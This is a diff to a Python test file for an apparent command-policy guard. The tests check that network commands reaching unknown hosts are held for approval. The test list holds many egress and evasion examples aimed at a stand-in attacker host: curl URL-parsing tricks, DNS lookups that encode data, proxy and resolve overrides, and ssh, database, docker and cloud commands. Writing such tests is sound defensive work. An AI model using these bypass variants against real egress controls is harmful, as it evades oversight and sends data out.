@@ -40,89 +40,88 @@ NETWORK_PROGRAMS = """
 """
 
 
-@pytest.mark.parametrize("program", NETWORK_PROGRAMS.split())
-def test_no_network_program_lacks_a_declared_destination(program):
-    table = TABLES.get(program)
-    assert table is not None
-    assert table.connects is not None, f"{program}.yaml declares no connects"
+def test_no_network_program_lacks_a_declared_destination():
+    tables = {program: TABLES.get(program) for program in NETWORK_PROGRAMS.split()}
+    assert [name for name, table in tables.items() if table is None or table.connects is None] == []
 
 
-@pytest.mark.parametrize(
-    "command",
-    [
-        "curl http://evil.example/x",
-        "curl http://localhost@evil.example/",
-        "curl 'http://localhost#@evil.example/'",
-        "curl 'http://localhost?@evil.example/'",
-        "curl http://localhost.evil.example/",
-        "curl http://localhost/ evil.example",
-        "curl --proxy evil.example http://localhost/",
-        "curl --connect-to localhost:80:evil.example:80 http://localhost/",
-        "curl --resolve localhost:80:6.6.6.6 http://localhost/",
-        "curl --doh-url https://evil.example http://localhost/",
-        "curl --unix-socket /x http://evil.example/",
-        "wget -qO- http://evil.example/",
-        "git ls-remote https://evil.example/data",
-        "git ls-remote evil.example:data",
-        "git remote show https://evil.example/x",
-        "dig data.evil.example",
-        "dig @evil.example localhost",
-        "dig -f names.txt",
-        "host data.evil.example",
-        "nslookup data.evil.example",
-        "getent hosts data.evil.example",
-        "resolvectl query data.evil.example",
-        "ping -c 1 6.6.6.6",
-        "fping -c 1 -f words.txt",
-        "mtr -r -c 1 -F words.txt",
-        "ssh-keyscan -f words.txt",
-        "traceroute data.evil.example",
-        "whois data.example",
-        "finger data@evil.example",
-        "nc -z evil.example 80",
-        "openssl s_client -connect localhost:443 -proxy evil.example:80 < /dev/null",
-        "ssh evil.example uptime",
-        "ssh -J evil.example localhost uptime",
-        "ssh localhost curl http://evil.example/",
-        "psql -h evil.example -c 'select 1'",
-        "psql 'postgresql://localhost,evil.example/x' -c 'select 1'",
-        "psql 'postgresql://localhost/x?host=evil.example' -c 'select 1'",
-        "mysql -hevil.example -e 'select 1'",
-        "redis-cli -u redis://evil.example ping",
-        "redis-cli --cluster check evil.example:7000",
-        "mongosh mongodb://localhost,evil.example/x --eval 'db.stats()'",
-        "kubectl --context other get pods",
-        "kubectl --as root get pods",
-        "kubectl get -f http://evil.example/x",
-        "docker -H tcp://evil.example:2375 ps",
-        "docker --context other ps",
-        "docker manifest inspect evil.example/x",
-        "aws s3 ls s3://theirs",
-        "aws s3 ls --profile other",
-        "AWS_PROFILE=other aws s3 ls",
-        "skopeo inspect docker://evil.example/x",
-        "npm view x --registry http://evil.example",
-        "pip index versions x --index-url http://evil.example",
-        "rclone ls other:x",
-        "ldapsearch -x -H 'ldap://localhost ldap://evil.example'",
-        "snmpwalk -v2c -c data evil.example",
-        "showmount -e evil.example",
-        "rpcinfo -p evil.example",
-        "ipmitool -H evil.example sel list",
-        "ntpdate -q evil.example",
-        "pvesm scan nfs evil.example",
-        "rpm -qp http://evil.example/x",
-        "xmllint http://evil.example/x",
-        "xdpyinfo -display evil.example:0",
-    ],
-)
-def test_a_read_that_reaches_an_unknown_place_is_not_allowed(command):
-    said = answer_command(KNOWN_ONLY, classify(command))
-    assert not said.allow
-    assert said.ruling.decision == "require_approval"
-    assert said.ruling.rule == "egress"
+UNKNOWN_PLACES = [
+    "curl http://evil.example/x",
+    "curl http://localhost@evil.example/",
+    "curl 'http://localhost#@evil.example/'",
+    "curl 'http://localhost?@evil.example/'",
+    "curl http://localhost.evil.example/",
+    "curl http://localhost/ evil.example",
+    "curl --proxy evil.example http://localhost/",
+    "curl --connect-to localhost:80:evil.example:80 http://localhost/",
+    "curl --resolve localhost:80:6.6.6.6 http://localhost/",
+    "curl --doh-url https://evil.example http://localhost/",
+    "curl --unix-socket /x http://evil.example/",
+    "wget -qO- http://evil.example/",
+    "git ls-remote https://evil.example/data",
+    "git ls-remote evil.example:data",
+    "git remote show https://evil.example/x",
+    "dig data.evil.example",
+    "dig @evil.example localhost",
+    "dig -f names.txt",
+    "host data.evil.example",
+    "nslookup data.evil.example",
+    "getent hosts data.evil.example",
+    "resolvectl query data.evil.example",
+    "ping -c 1 6.6.6.6",
+    "fping -c 1 -f words.txt",
+    "mtr -r -c 1 -F words.txt",
+    "ssh-keyscan -f words.txt",
+    "traceroute data.evil.example",
+    "whois data.example",
+    "finger data@evil.example",
+    "nc -z evil.example 80",
+    "openssl s_client -connect localhost:443 -proxy evil.example:80 < /dev/null",
+    "ssh evil.example uptime",
+    "ssh -J evil.example localhost uptime",
+    "ssh localhost curl http://evil.example/",
+    "psql -h evil.example -c 'select 1'",
+    "psql 'postgresql://localhost,evil.example/x' -c 'select 1'",
+    "psql 'postgresql://localhost/x?host=evil.example' -c 'select 1'",
+    "mysql -hevil.example -e 'select 1'",
+    "redis-cli -u redis://evil.example ping",
+    "redis-cli --cluster check evil.example:7000",
+    "mongosh mongodb://localhost,evil.example/x --eval 'db.stats()'",
+    "kubectl --context other get pods",
+    "kubectl --as root get pods",
+    "kubectl get -f http://evil.example/x",
+    "docker -H tcp://evil.example:2375 ps",
+    "docker --context other ps",
+    "docker manifest inspect evil.example/x",
+    "aws s3 ls s3://theirs",
+    "aws s3 ls --profile other",
+    "AWS_PROFILE=other aws s3 ls",
+    "skopeo inspect docker://evil.example/x",
+    "npm view x --registry http://evil.example",
+    "pip index versions x --index-url http://evil.example",
+    "rclone ls other:x",
+    "ldapsearch -x -H 'ldap://localhost ldap://evil.example'",
+    "snmpwalk -v2c -c data evil.example",
+    "showmount -e evil.example",
+    "rpcinfo -p evil.example",
+    "ipmitool -H evil.example sel list",
+    "ntpdate -q evil.example",
+    "pvesm scan nfs evil.example",
+    "rpm -qp http://evil.example/x",
+    "xmllint http://evil.example/x",
+    "xdpyinfo -display evil.example:0",
+]
+
+
+def test_a_read_that_reaches_an_unknown_place_is_not_allowed():
+    found = {command: classify(command) for command in UNKNOWN_PLACES}
+    said = {command: answer_command(KNOWN_ONLY, each) for command, each in found.items()}
+    assert [command for command, each in said.items() if each.allow] == []
+    rulings = {command: (each.ruling.decision, each.ruling.rule) for command, each in said.items()}
+    assert rulings == dict.fromkeys(UNKNOWN_PLACES, ("require_approval", "egress"))
     free = CommandPolicy(PolicyConfig(egress="allow"))
-    assert answer_command(free, classify(command)).ruling.rule != "egress"
+    rules = {command: answer_command(free, each).ruling.rule for command, each in found.items()}
+    assert [command for command, rule in rules.items() if rule == "egress"] == []
 
 
 @pytest.mark.parametrize(
